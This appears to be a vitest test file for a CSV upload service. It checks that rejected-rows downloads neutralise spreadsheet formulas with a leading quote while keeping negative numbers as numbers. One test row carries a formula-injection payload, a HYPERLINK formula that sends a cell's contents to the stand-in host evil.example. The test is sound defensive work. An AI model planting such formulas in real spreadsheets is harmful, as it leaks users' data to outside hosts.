/**
 * Issue 11 item 7: the admin's rejected-rows download keeps the file's layout (so the corrected
 * file loads) but a field a spreadsheet would run as a formula opens as text, like every other
 * export (dashboards/export/csv.ts); a plain negative number stays a number.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { header, row } from '../helpers/rows.ts';
import { startDemoServer, type DemoServer } from '../helpers/demoServer.ts';

let s: DemoServer;
beforeAll(async () => {
  s = await startDemoServer(3);
}, 120_000);
afterAll(() => s.close());

function upload(name: string, text: string): FormData {
  const fd = new FormData();
  fd.set('source', 'billing');
  fd.set('file', new Blob([text], { type: 'text/csv' }), name);
  return fd;
}

describe('rejected rows download', () => {
  it('prefixes a formula with a quote and leaves numbers alone', async () => {
    const rows: Record<string, string>[] = Array.from({ length: 40 }, (_, i) => ({ transaction_id: `R${i}`, amount_usd: '5.00' }));
    rows[3] = { transaction_id: '=HYPERLINK("http://evil.example/?"&A1)', amount_usd: '-12.50', post_date: '2026-02-30' };
    const text = [header('billing'), ...rows.map((r) => row('billing', r))].join('\n') + '\n';
    const res = await s.post('/upload', upload('formula.csv', text), { accept: 'application/json' });
    const run = (await res.json()) as { runId: string; rowsRejected: number };
    expect(run.rowsRejected).toBe(1);
    const csv = await (await s.get(`/etl/runs/${run.runId}/rejected.csv`)).text();
    const [head, bad] = csv.split('\r\n');
    expect(head).toBe(header('billing'));
    // The field starts with a quote inside its CSV quoting: "'=HYPERLINK(""http://..."
    expect(bad).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
    expect(bad).not.toMatch(/(^|,)"?=/);
    expect(bad!.split(',')).toContain('-12.50');
  });
});
